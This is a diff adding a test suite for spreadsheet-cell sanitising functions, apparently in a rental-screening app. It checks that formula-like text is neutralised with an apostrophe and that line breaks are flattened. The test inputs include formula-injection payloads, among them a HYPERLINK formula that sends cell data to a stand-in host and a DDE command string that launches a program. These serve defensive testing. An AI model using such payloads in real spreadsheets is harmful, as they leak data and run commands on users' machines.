@@ -1,0 +1,92 @@
+import fc from 'fast-check';
+
+import { safeCell, safeIdentifier } from '../../../nodes/RentalScreening/results/cells.ts';
+
+describe('text for a spreadsheet', () => {
+	it.each([
+		'=1+1',
+		'=HYPERLINK("http://evil.example?"&A1,"Click")',
+		'+1+1',
+		'+cmd|" /C calc"!A0',
+		'-1-1',
+		'-',
+		'@SUM(A1)',
+		'\t=1+1',
+		'\tplain',
+		' =1+1',
+		'\u00A0=1+1',
+		'\u200B=1+1',
+		'\uFEFF=1+1',
+		'\u0000=1+1',
+		'＝1+1',
+		'＋1+1',
+		'－1+1',
+		'＠SUM(A1)',
+		'+1-416-555-0100',
+		'+1 416 555 0100',
+		'-12.5+1',
+		'+14165550100=1',
+		'\uFE66=1',
+		'\uFE62cmd',
+	])('gets an apostrophe in front: %j', (text) => {
+		expect(safeCell(text)).toBe(`'${text}`);
+	});
+
+	it.each(['', 'Jane', '2026-03-01', '12 Maple Street', 'a=b', 'jane@example.com', '(+1)', "'=1"])(
+		'stays as it is where nothing takes it for a formula: %j',
+		(text) => {
+			expect(safeCell(text)).toBe(text);
+		},
+	);
+
+	it.each(['+14165550100', '-12.5', '-3', '+0.25'])('stays a phone or a number: %s', (text) => {
+		expect(safeCell(text)).toBe(text);
+	});
+
+	it.each([
+		['Smith\r=cmd|x', 'Smith =cmd|x'],
+		['Smith\n=1+1', 'Smith =1+1'],
+		['Smith\r\n=1+1', 'Smith =1+1'],
+		['a\v\fb', 'a  b'],
+		['a\u0085b\u2028c\u2029d', 'a b c d'],
+		['\rplain', ' plain'],
+		['\r=1+1', "' =1+1"],
+		['\n\n@x', "'  @x"],
+		['\u2028+1+1', "' +1+1"],
+		['-12.5\n=1', "'-12.5 =1"],
+	])('becomes one line: %j', (text, expected) => {
+		expect(safeCell(text)).toBe(expected);
+	});
+
+	it('is one line, never begins like a formula and loses nothing but line breaks', () => {
+		const lineBreaks = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/g;
+		fc.assert(
+			fc.property(
+				fc.string({ unit: 'binary' }),
+				fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\u2028', '\v='),
+				(rest, start) => {
+					const text = `${start}${rest}`.replace(lineBreaks, ' ');
+					const safe = safeCell(start + rest);
+					expect([text, `'${text}`]).toContain(safe);
+					if (/^[=+\-@\t]/.test(safe)) expect(Number.isFinite(Number(safe))).toBe(true);
+				},
+			),
+		);
+	});
+});
+
+describe('an identifier for a spreadsheet', () => {
+	it.each(['-NxYz_0123', 'usr-0b6d2c1e', '0b6d2c1e-52a7-4f0e-9d4b-6a1f5f0f7c21'])(
+		'stays as it is, because later steps send it back: %s',
+		(identifier) => {
+			expect(safeIdentifier(identifier)).toBe(identifier);
+		},
+	);
+
+	it.each(['=1+1', '-1+A1', '@x', '-HYPERLINK("x")'])(
+		'gets an apostrophe where it is no plain identifier: %s',
+		(identifier) => {
+			expect(safeIdentifier(identifier)).toBe(`'${identifier}`);
+		},
+	);
+});
